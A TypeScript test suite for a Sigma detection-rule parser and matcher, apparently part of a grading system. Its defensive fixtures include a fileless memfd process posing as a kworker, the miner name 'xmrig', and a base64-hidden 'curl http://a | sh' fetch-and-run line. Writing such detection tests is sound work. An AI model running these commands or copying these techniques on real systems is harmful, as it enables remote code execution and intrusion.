import { describe, expect, test } from 'vitest';
import { matches, parseRule, SigmaError } from '../../../orchestrator/grading/sigma/sigma.js';

/** A rule with the given detection block, indented as it would stand in a file. */
function rule(detection: string, logsource = 'product: linux') {
  const indent = (text: string) =>
    text
      .trim()
      .split('\n')
      .map((line) => `  ${line}`)
      .join('\n');
  return `title: test\nlogsource:\n${indent(logsource)}\ndetection:\n${indent(detection)}\n`;
}
const hit = (detection: string, event: Record<string, unknown>) => matches(parseRule(rule(detection)), event);
function one(key: string, value: string, event: Record<string, unknown>) {
  return hit(`s:\n  ${key}: ${value}\ncondition: s`, event);
}
function refusal(text: string): SigmaError {
  try {
    parseRule(text);
  } catch (error) {
    if (error instanceof SigmaError) return error;
    throw error;
  }
  throw new Error('the rule was accepted');
}

const memfd = {
  EventID: 1,
  Image: '/memfd:jit-cache (deleted)',
  CommandLine: '[kworker/u8:2]',
  ParentImage: '/usr/bin/python3.11',
};

describe('values', () => {
  test.each([
    ['Image', "'/MEMFD:JIT-cache (deleted)'", true],
    ['Image|cased', "'/MEMFD:JIT-cache (deleted)'", false],
    ['Image', "'/memfd:*'", true],
    ['Image', "'/memfd:jit?cache (deleted)'", true],
    ['Image', "'/memfd:jit??cache (deleted)'", false],
    ['Image|contains', 'jit-CACHE', true],
    ['Image|startswith', "'/memfd:'", true],
    ['Image|endswith', "'(deleted)'", true],
    ['Image|contains|cased', 'JIT', false],
    ['EventID', '1', true],
    ['EventID', "'1'", true],
    ['EventID', '3', false],
    ['Image|contains|all', "['jit', 'deleted']", true],
    ['Image|contains|all', "['jit', 'absent']", false],
    ['Image|contains', "['absent', 'jit']", true],
    ['User', 'null', true],
    ['Image', 'null', false],
    ['User|exists', 'false', true],
    ['Image|exists', 'true', true],
    ['EventID|lt', '2', true],
    ['EventID|gte', '1', true],
    ['EventID|gt', '1', false],
    ['Image|re', "'^/memfd:[a-z-]+ \\(deleted\\)$'", true],
    ['Image|re', "'MEMFD'", false],
    ['Image|re|i', "'MEMFD'", true],
  ])('%s: %s gives %s', (key, value, expected) => {
    expect(one(key, value, memfd)).toBe(expected);
  });

  test('escapes take wildcards literally, and a doubled backslash is one', () => {
    expect(one('a', "'50\\*'", { a: '50*' })).toBe(true);
    expect(one('a', "'50\\*'", { a: '500' })).toBe(false);
    expect(one('a', "'c:\\\\*'", { a: 'c:\\temp' })).toBe(true);
    expect(one('a', "'c:\\temp'", { a: 'c:\\temp' })).toBe(true);
    expect(one('a', "'c:\\\\temp'", { a: 'c:\\temp' })).toBe(true);
    expect(one('a', "'\\\\\\\\srv'", { a: '\\\\srv' })).toBe(true);
  });

  test('an empty text fits only an empty field, not an absent one', () => {
    expect(one('a', "''", { a: '' })).toBe(true);
    expect(one('a', "''", {})).toBe(false);
  });

  test('networks are compared as addresses', () => {
    expect(one('ip|cidr', '198.18.0.0/15', { ip: '198.19.255.1' })).toBe(true);
    expect(one('ip|cidr', '198.18.0.0/15', { ip: '198.20.0.1' })).toBe(false);
    expect(one('ip|cidr', "'2001:db8::/32'", { ip: '2001:db8::1' })).toBe(true);
    expect(one('ip|cidr', '198.18.0.0/15', { ip: 'not an address' })).toBe(false);
  });

  test('a field can be compared with another', () => {
    expect(one('a|fieldref', 'b', { a: 'X', b: 'x' })).toBe(true);
    expect(one('a|fieldref|cased', 'b', { a: 'X', b: 'x' })).toBe(false);
    expect(one('a|fieldref|endswith', 'b', { a: '/bin/sh', b: 'sh' })).toBe(true);
    expect(one('a|fieldref', 'b', { a: 'x' })).toBe(false);
  });

  test('encodings are found where the encoded text stands', () => {
    const hidden = Buffer.from('xx; curl http://a | sh').toString('base64');
    expect(one('c|base64offset|contains', "'curl http'", { c: `echo ${hidden}` })).toBe(true);
    expect(one('c|base64offset|contains', "'wget http'", { c: `echo ${hidden}` })).toBe(false);
    expect(one('c|base64|contains', 'foobar', { c: 'echo Zm9vYmFy | base64 -d' })).toBe(true);
    const wide = Buffer.from('ping', 'utf16le').toString('base64');
    expect(one('c|wide|base64offset|contains', 'ping', { c: `-enc ${wide}` })).toBe(true);
    expect(one('c|utf16le|base64', 'ping', { c: wide })).toBe(true);
    expect(one('c|utf16be|base64', 'ping', { c: wide })).toBe(false);
    const marked = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('ping', 'utf16le')]).toString('base64');
    expect(one('c|utf16|base64', 'ping', { c: marked })).toBe(true);
    expect(one('c|utf16|base64', 'ping', { c: wide })).toBe(false);
  });

  test('windash takes any dash before an option and leaves hyphens inside words', () => {
    expect(one('c|windash|contains', "' -enc'", { c: 'powershell /enc x' })).toBe(true);
    expect(one('c|windash|contains', "' -enc'", { c: 'powershell –enc x' })).toBe(true);
    expect(one('c|windash|contains', 'well-known', { c: 'well/known' })).toBe(false);
  });
});

describe('selections and conditions', () => {
  test('a map wants all, a list of maps any, keywords any anywhere in the event', () => {
    expect(hit('s:\n  a: 1\n  b: 2\ncondition: s', { a: 1, b: 3 })).toBe(false);
    expect(hit('s:\n  - a: 1\n  - b: 3\ncondition: s', { a: 0, b: 3 })).toBe(true);
    expect(hit('k:\n  - memfd\n  - xmrig\ncondition: k', memfd)).toBe(true);
    expect(hit("k:\n  '|all':\n    - memfd\n    - python\ncondition: k", memfd)).toBe(true);
    expect(hit("k:\n  '|all':\n    - memfd\n    - perl\ncondition: k", memfd)).toBe(false);
    expect(hit("k:\n  '|re':\n    - 'python3\\.\\d+$'\ncondition: k", memfd)).toBe(true);
  });

  const three = 'a1:\n  x: 1\na2:\n  y: 1\n_hidden:\n  z: 1\ncondition: ';
  test.each([
    ['a1 and a2', { x: 1 }, false],
    ['a1 or a2', { x: 1 }, true],
    ['not a2', { x: 1 }, true],
    ['not not a1', { x: 1 }, true],
    ['a1 and not a2', { x: 1, y: 1 }, false],
    ['1 of a*', { y: 1 }, true],
    ['all of a*', { y: 1 }, false],
    ['all of a*', { x: 1, y: 1 }, true],
    ['1 of them', { z: 1 }, false],
    ['all of them', { x: 1, y: 1 }, true],
    ['_hidden', { z: 1 }, true],
    ['a1 or a2 and _hidden', { x: 1 }, true],
    ['(a1 or a2) and _hidden', { x: 1 }, false],
    ['NOT (a1 AND a2)', { x: 1 }, true],
    ['not 1 of a*', { x: 1 }, false],
  ])('“%s” on %o gives %s', (condition, event, expected) => {
    expect(hit(three + condition, event)).toBe(expected);
  });

  test('several conditions are alternatives', () => {
    expect(hit('a:\n  x: 1\nb:\n  y: 1\ncondition:\n  - a\n  - b', { y: 1 })).toBe(true);
  });

  test('the category of the log source restricts the events', () => {
    const text = rule('s:\n  Image: a\ncondition: s', 'category: network_connection\nproduct: linux');
    expect(matches(parseRule(text), { EventID: 3, Image: 'a' })).toBe(true);
    expect(matches(parseRule(text), { EventID: 1, Image: 'a' })).toBe(false);
  });

  test('anchors and aliases of YAML work', () => {
    expect(hit('s: &s\n  x: 1\nt: *s\ncondition: t', { x: 1 })).toBe(true);
  });
});

describe('refusals name what is wrong and where', () => {
  test.each([
    [rule('s:\n  a: 1\ntimeframe: 5m\ncondition: s'), /^line 7: “timeframe” is not supported/],
    [rule('s:\n  a|expand: 1\ncondition: s'), /^line 6: .*“expand” is not supported/],
    [rule('s:\n  a|neq: 1\ncondition: s'), /“neq” is not supported/],
    [rule('s:\n  a|hour: 1\ncondition: s'), /“hour” is not supported/],
    [rule('s:\n  a: 1\ncondition: s | count() > 5'), /^line 7: .*aggregations/],
    [rule('s:\n  a: 1\ncondition: 2 of s*'), /“2 of” is not supported/],
    [rule('s:\n  a: 1\ncondition: s and t'), /no search identifier “t”/],
    [rule('s:\n  a: 1\ncondition: s and'), /missing at its end/],
    [rule('s:\n  a: 1\ncondition: (s'), /closing parenthesis/],
    [rule('s:\n  a: 1\ncondition: s s'), /not expected/],
    [rule('s:\n  a: 1\ncondition: 1 of f*'), /no search identifier fits/],
    [rule('s:\n  a: 1'), /“condition” is missing/],
    [rule('s:\n  a|all: 1\ncondition: s'), /“all” needs a list/],
    [rule('s:\n  a|contains|base64: x\ncondition: s'), /“base64” must stand before/],
    [rule('s:\n  a|re|contains: x\ncondition: s'), /“contains” does not go with “re”/],
    [rule("s:\n  a|base64: 'x*'\ncondition: s"), /does not go with wildcards/],
    [rule("s:\n  a|re: '(a)\\1'\ncondition: s"), /back-references/],
    [rule("s:\n  a|re: 'a(?=b)'\ncondition: s"), /look-around/],
    [rule("s:\n  a|re: '('\ncondition: s"), /parenthesis/],
    [rule('s:\n  a|cidr: 300.0.0.0/8\ncondition: s'), /not a network/],
    [rule('s:\n  a|gt: x\ncondition: s'), /needs a number/],
    [rule('s:\n  a: []\ncondition: s'), /list is empty/],
    [rule('s:\n  a:\n    b: 1\ncondition: s'), /expected a text/],
    [rule('s:\n  a: 1\ncondition: s', 'product: windows'), /^line 3: .*product “windows”/],
    [rule('s:\n  a: 1\ncondition: s', 'category: file_event'), /category “file_event”/],
    ['title: t\ncorrelation:\n  type: event_count\n', /^line 2: “correlation” is not supported/],
    ['title: t\naction: global\n', /“action” is not supported/],
    ['title: t\nlogsource: {product: linux}\n', /“detection” is missing/],
    ['logsource: {product: linux}\ndetection: {s: {a: 1}, condition: s}\n', /“title” is missing/],
    [`${rule('s:\n  a: 1\ncondition: s')}---\ntitle: second\n`, /^line 9: more than one document/],
    ['title: [\n', /^line \d+: /],
    ['title: a\ntitle: b\n', /^line \d+: .*unique/i],
    ['', /empty|map/],
    ['just a text', /a rule is a map/],
  ])('%j', (text, message) => {
    expect(refusal(text).message).toMatch(message);
  });

  test('fields are listed with their line, so that a misspelt one can be pointed out', () => {
    expect(parseRule(rule('s:\n  Imgae: 1\ncondition: s')).fields).toEqual([{ field: 'Imgae', line: 6 }]);
  });
});
